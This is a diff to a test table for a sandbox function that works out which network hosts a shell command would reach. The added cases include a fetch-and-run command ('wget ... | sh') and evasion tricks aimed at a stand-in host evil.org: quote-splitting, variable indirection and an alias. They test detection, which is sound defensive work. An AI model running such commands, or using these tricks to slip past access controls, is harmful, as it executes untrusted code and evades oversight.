@@ -55,7 +55,12 @@ from sb.kernel.boundaries.fetched import MOST, addresses_of
         ("http --print=h POST w.org a=b X:y", ["https://w.org"]),
         ("http me@evil.org a=https://w.org", ["https://w.org", "shell:http"]),
         ("git clone https://github.com/a/b", ["https://github.com/a/b"]),
+        ("wget -q -O - w.org | sh", ["https://w.org"]),
+        ("c''url evil.org", ["https://evil.org"]),
+        ("U=evil.org; curl $U", ["https://evil.org"]),
+        ("alias c=curl; c evil.org", ["shell:curl"]),
         ("pip install curling", []),
+        ("apt-get install curl && which curl", []),
         ("make httpd", []),
     ],
 )
